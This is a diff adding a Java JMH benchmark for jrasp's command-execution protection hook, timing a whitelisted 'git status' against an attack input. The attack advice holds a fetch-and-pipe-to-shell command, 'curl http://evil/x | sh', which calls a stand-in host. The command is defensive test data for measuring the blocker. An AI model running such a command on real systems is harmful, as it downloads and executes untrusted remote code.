@@ -0,0 +1,77 @@
+package com.jrasp.module.benchmark;
+
+import com.jrasp.api.listener.ext.Advice;
+import com.jrasp.module.rce.RceModule;
+import org.openjdk.jmh.annotations.*;
+
+import java.lang.reflect.Constructor;
+import java.lang.reflect.Method;
+import java.util.Collections;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+
+import static com.jrasp.module.common.JavaVersionUtils.isGreaterThanJava8;
+
+// 命令执行 hook: jdk9+ ProcessImpl.start, jdk8 UNIXProcess.<init>
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@State(Scope.Thread)
+@Warmup(iterations = 3, time = 1)
+@Measurement(iterations = 5, time = 1)
+@Fork(1)
+public class RceModuleBenchmark {
+
+    private ModuleHarness harness;
+
+    private HookInvoker hook;
+
+    private Advice benign;
+
+    private Advice attack;
+
+    @Setup
+    public void setup() throws Exception {
+        harness = ModuleHarness.load(new RceModule());
+        hook = harness.hook(isGreaterThanJava8() ? "processImplHook" : "unixProcessHook");
+        harness.command("/whitelist", Collections.singletonMap("item", new String[]{"git status"}));
+        benign = advice("git", "status");
+        attack = advice("sh", "-c", "curl http://evil/x | sh");
+    }
+
+    @TearDown
+    public void tearDown() throws Throwable {
+        harness.unload();
+    }
+
+    @Benchmark
+    public Object benign() throws Throwable {
+        hook.before(benign);
+        return benign;
+    }
+
+    @Benchmark
+    public Object attack() {
+        try {
+            hook.before(attack);
+        } catch (Throwable e) {
+            return e;
+        }
+        return attack;
+    }
+
+    private static Advice advice(String... cmd) throws Exception {
+        if (isGreaterThanJava8()) {
+            Method start = Class.forName("java.lang.ProcessImpl").getDeclaredMethod("start",
+                    String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
+            return HookInvoker.advice(start, null, cmd, null, null, null, false);
+        }
+        // UNIXProcess(byte[] prog, byte[] argBlock, int argc, ...): prog 以 \0 结尾, argBlock 以 \0 分隔
+        Constructor<?> init = Class.forName("java.lang.UNIXProcess").getDeclaredConstructors()[0];
+        byte[] prog = (cmd[0] + '\0').getBytes();
+        StringBuilder args = new StringBuilder();
+        for (int i = 1; i < cmd.length; i++) {
+            args.append(cmd[i]).append('\0');
+        }
+        return HookInvoker.advice(init, null, prog, args.toString().getBytes(), cmd.length - 1, null, 0, null, null, false);
+    }
+}